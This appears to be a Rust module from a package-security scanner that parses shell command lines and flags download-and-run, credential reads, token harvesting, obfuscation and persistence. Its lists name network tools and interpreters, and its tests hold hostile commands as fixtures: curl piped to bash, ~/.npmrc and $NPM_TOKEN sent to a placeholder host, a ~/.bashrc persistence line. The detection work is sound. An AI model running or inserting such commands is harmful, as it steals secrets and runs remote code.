//! A scanner for shell command lines: npm script strings, `sh -c` arguments, commands
//! handed to `child_process.exec`, `binding.gyp` command expansions.
//!
//! It splits a line into simple commands the way `sh` does (quotes, `|`, `&&`, `||`,
//! `;`, `&`, newlines, `>`/`>>` redirections, `$(…)` and backquote substitutions) and
//! looks at each command's program and words. It does not expand variables or globs.

use tollgate_model::Severity;

use crate::model::Rule;
use crate::patterns::{credential_location, outside_location, token_like};
use crate::rules::Hit;

/// Deepest nesting of `sh -c` / `$(…)` followed.
const MAX_NESTING: usize = 4;

/// Programs that reach the network.
const NETWORK_TOOLS: &[&str] = &[
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "telnet",
    "ftp",
    "scp",
    "sftp",
    "invoke-webrequest",
    "iwr",
    "invoke-restmethod",
    "irm",
    "certutil",
    "bitsadmin",
    // DNS look-ups carry data out in the name they ask for.
    "dig",
    "nslookup",
];

/// Whether a program (lower-case, without its folder) reaches the network.
pub(crate) fn is_network_tool(program: &str) -> bool {
    NETWORK_TOOLS.contains(&program)
}

/// Programs whose output is the host's identity (`$(whoami)`, `` `hostname` ``, `id`): the
/// words recon one-liners put into a URL or a DNS name.
pub(crate) const RECON_COMMANDS: &[&str] = &[
    "whoami",
    "hostname",
    "id",
    "uname",
    "ipconfig",
    "ifconfig",
    "systeminfo",
];

/// Programs that print what they download (`curl URL`, `wget -qO- URL`, PowerShell's
/// web cmdlets): their output is downloaded data.
pub(crate) const DOWNLOAD_TOOLS: &[&str] = &[
    "curl",
    "wget",
    "invoke-webrequest",
    "iwr",
    "invoke-restmethod",
    "irm",
];

/// Programs that run the code they are fed.
const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "node",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "iex",
    "invoke-expression",
    "powershell",
    "pwsh",
];

/// Words before the real program that do not change what runs.
const PREFIXES: &[&str] = &[
    "sudo",
    "exec",
    "command",
    "nohup",
    "time",
    "cross-env",
    "env",
];

/// A file or code the command runs, for the caller to analyse.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Follow {
    /// `node FILE`.
    Node(String),
    /// `node -e CODE`.
    InlineJs(String),
    /// `sh FILE`, `bash FILE`.
    Shell(String),
    /// `python FILE`.
    Python(String),
}

/// What a command line does.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct ShellScan {
    /// Rules that fired.
    pub hits: Vec<Hit>,
    /// Files and inline code it runs.
    pub follow: Vec<Follow>,
}

/// One simple command.
#[derive(Debug, Default)]
struct Simple {
    words: Vec<String>,
    redirects: Vec<String>,
    /// Its standard input is the previous command's output.
    piped: bool,
}

/// Scans one command line found at `line`.
pub(crate) fn scan(command: &str, line: u32) -> ShellScan {
    let mut result = ShellScan::default();
    scan_nested(command, line, 0, &mut result);
    result
}

fn scan_nested(command: &str, line: u32, depth: usize, result: &mut ShellScan) {
    if depth > MAX_NESTING {
        return;
    }
    let commands = split(command);
    let mut previous: Option<(String, bool)> = None;
    // Files a download tool saved earlier on the line (`curl -o x.exe URL && x.exe`).
    let mut downloaded: Vec<String> = Vec::new();
    for simple in &commands {
        for substitution in simple.words.iter().flat_map(|w| substitutions(w)) {
            scan_nested(&substitution, line, depth + 1, result);
        }
        let words = program_and_args(&simple.words);
        let program = words
            .first()
            .map(|w| {
                w.rsplit(['/', '\\'])
                    .next()
                    .unwrap_or(w)
                    .to_ascii_lowercase()
            })
            .unwrap_or_default();
        let args = words.get(1..).unwrap_or_default();
        if simple.piped {
            if let Some((from, decodes)) = &previous {
                piped_into(from, *decodes, &program, line, result);
            }
        }
        if let Some(file) = runs_a_download(&program, args, &downloaded) {
            result.hits.push(Hit::new(
                Rule::DownloadExec,
                Severity::High,
                line,
                format!("downloads `{file}` and runs it"),
            ));
        }
        if DOWNLOAD_TOOLS.contains(&program.as_str()) {
            downloaded.extend(saved_file(args, &simple.redirects));
        }
        examine(&program, args, simple, line, depth, result);
        let decodes = program == "base64" && args.iter().any(|a| a == "-d" || a == "--decode");
        previous = Some((program, decodes));
    }
}

/// The file name (without folders, lower case) a download command saves to: `-o F`,
/// `--output F`, `-O F` (wget), `-OutFile F` (PowerShell), `> F`.
fn saved_file(args: &[String], redirects: &[String]) -> Option<String> {
    let flagged = args.windows(2).find_map(|pair| {
        let flag = pair[0].to_ascii_lowercase();
        matches!(
            flag.as_str(),
            "-o" | "--output" | "-outfile" | "--output-document"
        )
        .then(|| pair[1].clone())
    });
    let file = flagged.or_else(|| redirects.first().cloned())?;
    let name = base_name(&file);
    (!name.is_empty() && name != "-" && name != "/dev/null").then_some(name)
}

fn base_name(path: &str) -> String {
    path.trim_matches(['"', '\''])
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or_default()
        .to_ascii_lowercase()
}

/// `-x`, `--flag`, and cmd's `/c`-style switches (a short word after `/`).
fn is_switch(word: &str) -> bool {
    word.starts_with('-') || (word.starts_with('/') && word.len() <= 3)
}

/// The downloaded file a command starts: as the program itself (`x.exe`, `./x`), or
/// handed to a launcher or interpreter (`start x.exe`, `sh x.sh`, `python x.py`).
fn runs_a_download(program: &str, args: &[String], downloaded: &[String]) -> Option<String> {
    if downloaded.is_empty() {
        return None;
    }
    if downloaded.iter().any(|d| d == program) {
        return Some(program.to_owned());
    }
    let launches = INTERPRETERS.contains(&program)
        || matches!(
            program,
            "start" | "cmd" | "start-process" | "open" | "xdg-open"
        );
    if !launches {
        return None;
    }
    args.iter()
        // `cmd /c x.exe`: `/c` is a switch, `/tmp/x.sh` a path.
        .filter(|a| !is_switch(a))
        .map(|a| base_name(a))
        .find(|a| downloaded.contains(a))
}

fn piped_into(from: &str, decodes: bool, program: &str, line: u32, result: &mut ShellScan) {
    if !INTERPRETERS.contains(&program) {
        return;
    }
    if NETWORK_TOOLS.contains(&from) {
        result.hits.push(Hit::new(
            Rule::DownloadExec,
            Severity::High,
            line,
            format!("pipes a download from `{from}` into `{program}`"),
        ));
    } else if decodes {
        result.hits.push(Hit::new(
            Rule::Obfuscation,
            Severity::High,
            line,
            format!("pipes base64-decoded data into `{program}`"),
        ));
    }
}

fn examine(
    program: &str,
    args: &[String],
    simple: &Simple,
    line: u32,
    depth: usize,
    result: &mut ShellScan,
) {
    if NETWORK_TOOLS.contains(&program) {
        result.hits.push(Hit::new(
            Rule::Network,
            Severity::Medium,
            line,
            format!("runs `{program}`"),
        ));
    }
    match program {
        "node" | "nodejs" => node(args, result),
        "sh" | "bash" | "zsh" | "dash" => match args.iter().position(|a| a == "-c") {
            Some(i) => {
                if let Some(code) = args.get(i + 1) {
                    scan_nested(code, line, depth + 1, result);
                }
            }
            None => {
                if let Some(file) = args.iter().find(|a| !a.starts_with('-')) {
                    result.follow.push(Follow::Shell(file.clone()));
                }
            }
        },
        "python" | "python3" => {
            if let Some(file) = args.iter().find(|a| !a.starts_with('-')) {
                result.follow.push(Follow::Python(file.clone()));
            }
        }
        "eval" => result.hits.push(Hit::new(
            Rule::Obfuscation,
            Severity::Medium,
            line,
            "`eval` runs a command computed at run time",
        )),
        "printenv" | "env" | "set" if args.is_empty() => result.hits.push(Hit::new(
            Rule::EnvHarvest,
            Severity::High,
            line,
            format!("`{program}` lists the whole environment"),
        )),
        "crontab" => result.hits.push(Hit::new(
            Rule::WriteOutside,
            Severity::High,
            line,
            "installs a crontab",
        )),
        _ => {}
    }
    for word in args {
        if let Some(fragment) = credential_location(word) {
            result.hits.push(Hit::new(
                Rule::CredentialRead,
                Severity::High,
                line,
                format!("names the credential location `{fragment}`"),
            ));
        }
        for variable in variables(word).filter(|v| token_like(v)) {
            result.hits.push(Hit::new(
                Rule::EnvHarvest,
                Severity::Medium,
                line,
                format!("reads the secret-looking variable `{variable}`"),
            ));
        }
    }
    for target in &simple.redirects {
        if let Some(fragment) = outside_location(target) {
            result.hits.push(Hit::new(
                Rule::WriteOutside,
                Severity::High,
                line,
                format!("writes to `{fragment}`, outside the package"),
            ));
        }
    }
}

fn node(args: &[String], result: &mut ShellScan) {
    let mut iter = args.iter();
    while let Some(arg) = iter.next() {
        match arg.as_str() {
            "-e" | "--eval" | "-p" | "--print" => {
                if let Some(code) = iter.next() {
                    result.follow.push(Follow::InlineJs(code.clone()));
                }
                return;
            }
            "-r" | "--require" => {
                if let Some(module) = iter.next() {
                    result.follow.push(Follow::Node(module.clone()));
                }
            }
            flag if flag.starts_with('-') => {}
            file => {
                result.follow.push(Follow::Node(file.to_owned()));
                return;
            }
        }
    }
}

/// Drops leading `VAR=value` assignments and prefix programs (`sudo`, `cross-env`).
fn program_and_args(words: &[String]) -> &[String] {
    let mut start = 0;
    while let Some(word) = words.get(start) {
        let assignment = word.split_once('=').is_some_and(|(name, _)| {
            !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        });
        let is_prefix = PREFIXES.contains(&word.as_str()) && words.len() > start + 1;
        if assignment || is_prefix {
            start += 1;
        } else {
            break;
        }
    }
    words.get(start..).unwrap_or_default()
}

/// `$NAME` and `${NAME}` references in a word.
fn variables(word: &str) -> impl Iterator<Item = &str> {
    word.split('$').skip(1).filter_map(|rest| {
        let rest = rest.strip_prefix('{').unwrap_or(rest);
        let end = rest
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .unwrap_or(rest.len());
        rest.get(..end).filter(|name| !name.is_empty())
    })
}

/// The bodies of `$(…)` and backquote substitutions in a word.
fn substitutions(word: &str) -> Vec<String> {
    let mut found = Vec::new();
    if let Some(start) = word.find("$(") {
        if let Some(body) = word.get(start + 2..) {
            let end = body.rfind(')').unwrap_or(body.len());
            found.push(body.get(..end).unwrap_or("").to_owned());
        }
    }
    let mut parts = word.split('`');
    parts.next();
    while let Some(body) = parts.next() {
        found.push(body.to_owned());
        parts.next();
    }
    found
}

/// Splits a command line into simple commands.
fn split(command: &str) -> Vec<Simple> {
    let mut commands = Vec::new();
    let mut current = Simple::default();
    let mut word = String::new();
    let mut in_word = false;
    let mut redirect_next = false;
    let mut chars = command.chars().peekable();
    let mut quote: Option<char> = None;
    let finish_word =
        |word: &mut String, in_word: &mut bool, redirect_next: &mut bool, current: &mut Simple| {
            if *in_word {
                let text = std::mem::take(word);
                if *redirect_next {
                    current.redirects.push(text);
                    *redirect_next = false;
                } else {
                    current.words.push(text);
                }
                *in_word = false;
            }
        };
    while let Some(c) = chars.next() {
        if let Some(q) = quote {
            if c == q {
                quote = None;
            } else if c == '\\' && q == '"' {
                if let Some(next) = chars.next() {
                    word.push(next);
                }
            } else {
                word.push(c);
            }
            continue;
        }
        match c {
            '\'' | '"' => {
                quote = Some(c);
                in_word = true;
            }
            '\\' => {
                if let Some(next) = chars.next() {
                    if next != '\n' {
                        word.push(next);
                        in_word = true;
                    }
                }
            }
            '$' if chars.peek() == Some(&'(') => {
                // Keep a substitution in one word, whatever it contains.
                in_word = true;
                word.push('$');
                let mut depth = 0usize;
                for inner in chars.by_ref() {
                    word.push(inner);
                    match inner {
                        '(' => depth += 1,
                        ')' => {
                            depth = depth.saturating_sub(1);
                            if depth == 0 {
                                break;
                            }
                        }
                        _ => {}
                    }
                }
            }
            c if c.is_whitespace() && c != '\n' => {
                finish_word(&mut word, &mut in_word, &mut redirect_next, &mut current)
            }
            '>' => {
                finish_word(&mut word, &mut in_word, &mut redirect_next, &mut current);
                if chars.peek() == Some(&'>') {
                    chars.next();
                }
                if chars.peek() == Some(&'&') {
                    chars.next();
                    // `>&2`: a descriptor, not a file.
                    while chars.peek().is_some_and(|c| c.is_ascii_digit()) {
                        chars.next();
                    }
                } else {
                    redirect_next = true;
                }
            }
            '|' | '&' | ';' | '\n' => {
                finish_word(&mut word, &mut in_word, &mut redirect_next, &mut current);
                let doubled = chars.peek() == Some(&c) && (c == '|' || c == '&');
                if doubled {
                    chars.next();
                }
                let piped = c == '|' && !doubled;
                commands.push(std::mem::take(&mut current));
                current.piped = piped;
            }
            other => {
                word.push(other);
                in_word = true;
            }
        }
    }
    finish_word(&mut word, &mut in_word, &mut redirect_next, &mut current);
    commands.push(current);
    commands.retain(|c| !c.words.is_empty());
    commands
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(scan: &ShellScan) -> Vec<Rule> {
        scan.hits.iter().map(|h| h.rule).collect()
    }

    #[test]
    fn curl_pipe_sh_is_download_exec() {
        let s = scan("curl -fsSL https://x.example/i.sh | sudo bash", 1);
        assert_eq!(rules(&s), [Rule::Network, Rule::DownloadExec]);
    }

    #[test]
    fn node_script_is_followed() {
        let s = scan("node-gyp-build || node ./scripts/install.js --force", 1);
        assert!(s.hits.is_empty());
        assert_eq!(s.follow, [Follow::Node("./scripts/install.js".into())]);
        let inline = scan("node -e \"try{require('./postinstall')}catch(e){}\"", 1);
        assert_eq!(
            inline.follow,
            [Follow::InlineJs(
                "try{require('./postinstall')}catch(e){}".into()
            )]
        );
    }

    #[test]
    fn credentials_tokens_and_persistence() {
        let s = scan(
            "cat ~/.npmrc | curl -d @- https://x.example -H \"a: $NPM_TOKEN\"",
            1,
        );
        assert_eq!(
            rules(&s),
            [Rule::CredentialRead, Rule::Network, Rule::EnvHarvest]
        );
        let p = scan("echo 'curl x|sh' >> ~/.bashrc 2>&1", 1);
        assert_eq!(rules(&p), [Rule::WriteOutside]);
    }

    #[test]
    fn saved_download_then_started_is_download_exec() {
        let windows = scan(
            "cd C:/ && curl -s https://x.example/a.exe -o a.exe && a.exe",
            1,
        );
        assert!(rules(&windows).contains(&Rule::DownloadExec), "{windows:?}");
        let shell = scan(
            "wget -q https://x.example/i.sh -O /tmp/i.sh; sh /tmp/i.sh",
            1,
        );
        assert!(rules(&shell).contains(&Rule::DownloadExec), "{shell:?}");
        let unpacked = scan(
            "curl -L https://x.example/t.tar.gz -o t.tar.gz && tar xzf t.tar.gz",
            1,
        );
        assert!(
            !rules(&unpacked).contains(&Rule::DownloadExec),
            "{unpacked:?}"
        );
    }

    #[test]
    fn sh_c_and_substitutions_are_scanned() {
        let s = scan("sh -c \"wget -q -O- http://x | sh\"", 1);
        assert!(rules(&s).contains(&Rule::DownloadExec));
        let sub = scan("echo $(curl http://x.example)", 1);
        assert_eq!(rules(&sub), [Rule::Network]);
        let b = scan("echo aGkK | base64 -d | bash", 1);
        assert_eq!(rules(&b), [Rule::Obfuscation]);
    }
}
